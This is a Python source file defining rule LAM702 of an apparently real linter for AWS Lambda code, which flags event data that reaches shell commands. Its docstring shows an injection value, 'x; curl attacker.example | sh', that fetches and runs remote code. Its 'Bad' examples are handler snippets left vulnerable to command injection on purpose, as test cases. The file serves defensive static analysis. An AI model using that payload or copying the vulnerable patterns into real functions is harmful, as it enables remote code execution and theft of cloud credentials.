"""LAM702 event-command-injection."""

from __future__ import annotations

from lambdalint import Bad, FixAvailability, Good, Severity
from lambdalint.catalog import taint as catalog

from ._taint import EventTaintRule


class EventCommandInjection(EventTaintRule):
    """
    ## What it does
    Flags event data that reaches a shell or chooses the program to run: the command
    of `os.system`, `os.popen`, `subprocess.getoutput`/`getstatusoutput`,
    `asyncio.create_subprocess_shell`, and of `subprocess.run`/`call`/`check_call`/
    `check_output`/`Popen` with `shell=True`; a command *string* given to `subprocess`
    without a shell (the event names the program); the first item of an argument list
    (`[event["tool"], ...]`) or the script of `["sh", "-c", ...]`; the program of
    `os.exec*`, `os.spawn*`, `os.posix_spawn`, `asyncio.create_subprocess_exec` and
    `pty.spawn`.

    Event data means values read from the handler's first parameter (any name),
    `app.current_event`, route path parameters and record handlers' records, followed
    through assignments, string building, containers and the project's own functions;
    the message names the line where it was read.

    ## Why is this bad?
    A shell treats `;`, `|`, `$(...)` and backticks in the data as commands of their
    own: an S3 key or a query parameter like `x; curl attacker.example | sh` runs with
    the function's role, so it can read the role's credentials from the environment
    and call every AWS API the role allows.

    Not flagged: argument lists without a shell (`subprocess.run(["convert", key,
    out])`, where each item stays one argument), values quoted with `shlex.quote`
    (or joined with `shlex.join`), values converted with `int()`/`float()`, values
    checked against a literal allow-list, commands built from constants or
    environment variables, what an AWS SDK call made with event data returns (`get_secret_value(SecretId=event["SecretId"])`
    answers with the secret, which is AWS's data, not the caller's), and code Lambda does not run (test files, `conftest.py`, scripts and modules that no handler's module imports; see docs/handlers.md).

    ## Fix safety
    No automatic fix: turning a command string into an argument list means splitting
    it, and pipes or redirections in it need rewriting in Python.

    ## References
    - [How lambdalint follows event data](https://github.com/lambdalint/lambdalint/blob/main/docs/taint.md)
    - [Python `subprocess`: security considerations](https://docs.python.org/3/library/subprocess.html#security-considerations)
    - [Python `shlex.quote`](https://docs.python.org/3/library/shlex.html#shlex.quote)
    - [OWASP OS Command Injection Defense Cheat Sheet](https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html)
    - [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
    """

    code = "LAM702"
    name = "event-command-injection"
    severity = Severity.ERROR
    fix = FixAvailability.NONE
    words = ("system", "popen", "Popen", "subprocess", "getoutput", "spawn", "exec")
    tags = ("security", "injection")
    kind = catalog.SHELL
    advice = (
        "pass an argument list without `shell=True` (`subprocess.run([\"convert\", name, out])`) "
        "or quote the value with `shlex.quote`, and never let the event choose the program"
    )

    examples = [
        Bad('''
            from subprocess import run as sh

            def convert(source, target):
                command = "convert {} -resize 200x200 {}".format(source, target)
                return sh(command, shell=True, check=True)  # expect

            def lambda_handler(event, context):
                key = event["Records"][0]["s3"]["object"]["key"]
                local = "/tmp/" + key.rsplit("/", 1)[-1]
                return convert(local, local + ".png")
        '''),
        Good('''
            import subprocess

            def convert(source, target):
                return subprocess.run(["convert", source, "-resize", "200x200", target], check=True)

            def lambda_handler(event, context):
                key = event["Records"][0]["s3"]["object"]["key"]
                local = "/tmp/" + key.rsplit("/", 1)[-1]
                args = ["identify", local]
                subprocess.check_output(args)
                return convert(local, local + ".png")
        '''),
        Bad('''
            import os
            from os import system

            def lambda_handler(event, context):
                host = event["queryStringParameters"]["host"]
                system(f"ping -c 1 {host}")  # expect
                return os.popen("nslookup " + host).read()  # expect
        '''),
        Good('''
            import os
            import shlex

            def lambda_handler(event, context):
                host = shlex.quote(event["queryStringParameters"]["host"])
                os.system(f"ping -c 1 {host}")
                return os.popen("nslookup " + shlex.quote(event["name"])).read()
        '''),
        Bad('''
            import subprocess
            from aws_lambda_powertools.utilities.batch import BatchProcessor, EventType, process_partial_response

            processor = BatchProcessor(event_type=EventType.SQS)

            def record_handler(record):
                payload = record.json_body
                subprocess.run(["sh", "-c", "tar xzf " + payload["archive"]], check=True)  # expect
                subprocess.run([payload["tool"], "--version"], check=True)  # expect

            def lambda_handler(event, context):
                return process_partial_response(
                    event=event, record_handler=record_handler, processor=processor, context=context
                )
        '''),
        Good('''
            import os
            import subprocess

            LEVELS = ("fast", "best")

            def lambda_handler(event, context):
                workers = int(event["workers"])
                os.system(f"nice -n 10 /opt/bin/job --workers {workers}")
                level = event.get("level", "fast")
                if level in LEVELS:
                    subprocess.run(f"/opt/bin/pack --{level} /tmp/data", shell=True, check=True)
                subprocess.run(f"ls {os.environ['DATA_DIR']}", shell=True, check=True)
        '''),
        Bad('''
            import asyncio

            async def transcode(name):
                process = await asyncio.create_subprocess_shell(f"ffmpeg -i /tmp/{name} /tmp/out.mp4")  # expect
                return await process.wait()

            def lambda_handler(event, context):
                return asyncio.run(transcode(event["detail"]["file"]))
        '''),
    ]
